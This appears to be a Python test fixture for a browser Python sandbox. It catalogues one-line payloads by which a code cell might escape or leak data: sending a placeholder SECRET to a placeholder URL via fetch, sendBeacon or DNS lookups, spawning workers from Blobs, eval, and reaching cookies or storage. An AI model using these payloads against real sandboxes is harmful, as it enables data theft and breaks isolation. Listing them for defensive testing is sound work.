"""Ways by which a cell of code could tell somebody something, or change what is not its own.

A line each: its name, and Python that would do it. URL is a file on another computer, SITE is
the site's own folder, SECRET is what must not get anywhere.

Emscripten's own eval (``emscripten_run_script`` by ctypes) is not here: Python hangs after it, and
nothing else could be tried.
"""

from __future__ import annotations

WAYS = {
    # requests to another computer
    "fetch": "await js.fetch(URL)",
    "fetch without permission": "await js.fetch(URL, mode='no-cors', method='POST', body=SECRET)",
    "fetch with a request": "await js.fetch(js.Request.new(URL))",
    "fetch of the prototype": "await js.WorkerGlobalScope.prototype.fetch.call(js.self, URL)",
    "fetch, dug up": "await js.Object.getOwnPropertyDescriptor(js.WorkerGlobalScope.prototype, "
    "'fetch').value.call(js.self, URL)",
    "fetchLater": "js.fetchLater(URL)",
    "XMLHttpRequest": "r = js.XMLHttpRequest.new(); r.open('GET', URL); r.send()",
    "WebSocket": "js.WebSocket.new(URL.replace('http', 'ws'))",
    "WebSocketStream": "js.WebSocketStream.new(URL.replace('http', 'ws'))",
    "EventSource": "js.EventSource.new(URL)",
    "WebTransport": "js.WebTransport.new(URL.replace('http', 'https'))",
    "WebRTC": "js.RTCPeerConnection.new()",
    "sendBeacon": "js.navigator.sendBeacon(URL, SECRET)",
    "a font": "await js.FontFace.new('a', f'url({URL})').load()",
    "importScripts": "js.importScripts(URL)",
    "a picture": "js.Image.new().src = URL",
    "a notification": "js.Notification.new('a', icon=URL)",
    "pyfetch": "from pyodide.http import pyfetch; await pyfetch(URL)",
    "open_url": "from pyodide.http import open_url; open_url(URL)",
    "urllib": "import urllib.request; urllib.request.urlopen(URL, timeout=1)",
    "http.client": "import http.client; http.client.HTTPConnection('127.0.0.1', PORT, "
    "timeout=1).request('GET', '/' + SECRET)",
    "a socket": "import socket; socket.create_connection(('127.0.0.1', PORT), timeout=1)",
    "a name's address": "import socket; n = socket.gethostbyname(SECRET + '.example'); "
    "assert n.startswith('172.29.'); raise OSError('made up by Emscripten')",
    "asyncio": "import asyncio; await asyncio.open_connection('127.0.0.1', PORT)",
    "a package from elsewhere": "import pyodide_js; await pyodide_js.loadPackage(URL + '.whl'); "
    "raise OSError('loadPackage only warns')",
    # scripts in places that have more rights
    "the site's worker": "js.Worker.new(SITE + 'worker/worker.js', type='module')",
    "a script from a Blob": "js.URL.createObjectURL(js.Blob.new(['fetch(1)']))",
    "a worker from a Blob": "js.Worker.new(js.URL.createObjectURL(js.Blob.new(['fetch(1)'])))",
    "a worker from data": "js.Worker.new('data:text/javascript,fetch(1)')",
    "a worker, dug up": "js.WorkerGlobalScope.prototype.Worker.new('data:text/javascript,')",
    "a shared worker": "js.SharedWorker.new(SITE + 'worker/worker.js')",
    "the service worker": "await js.navigator.serviceWorker.register(SITE + 'sw.js')",
    "eval": "js.eval('fetch(1)')",
    "a function from text": "js.Function.new('return fetch')()",
    "a constructor's constructor": "js.Array.constructor.new('return fetch')()",
    "a timer's text": "import asyncio; js.setTimeout('fetch(1)'); await asyncio.sleep(0.1); "
    "raise OSError('the text does not run')",
    "run_js": "from pyodide.code import run_js; run_js('fetch(1)')",
    "import in JavaScript": "from pyodide.code import run_js; await run_js(f'import(\"{URL}\")')",
    "the document": "js.document.title = SECRET",
    "the window": "js.window.open(URL)",
    "the page's place": "js.location.assign(URL)",
    # the site's own server, which is others', too
    "a path of the site's server": "await js.fetch(SITE + SECRET)",
    "a question to the site's server": "await js.fetch(SITE + 'app.css?' + SECRET)",
    "a file with a name behind #": "await js.fetch(SITE + 'app.css#' + SECRET)",
    "the folder above": "await js.fetch(SITE + '../' + SECRET)",
    "the server's root": "await js.fetch('/' + SECRET)",
    "a property that all objects have": "await js.fetch(SITE + 'constructor')",
    # what lies on the device
    "other projects": "js.indexedDB.open('zeichenlabor /')",
    "the list of projects": "await js.indexedDB.databases()",
    "the site's copy": "await js.caches.open('zeichenlabor')",
    "cookies": "await js.cookieStore.set('a', SECRET)",
    "the file system": "await js.navigator.storage.getDirectory()",
    "buckets": "await js.navigator.storageBuckets.open('a')",
    "locks": "await js.navigator.locks.request('zeichenlabor', lambda lock: None)",
    "local storage": "js.localStorage.setItem('a', SECRET)",
    # the page itself
    "other tabs": "js.BroadcastChannel.new('zeichenlabor').postMessage('wanted')",
    "a forged count": "js.postMessage(js.Object.fromEntries([['kind', 'requests'], "
    "['foreign', -5]]))",
    "a forged reply": "js.self.postMessage(js.Object.fromEntries([['kind', 'reply'], ['id', 1]]))",
    "an end without a word": "js.close()",
    "an end without a word, dug up": "js.DedicatedWorkerGlobalScope.prototype.close.call(js.self)",
}
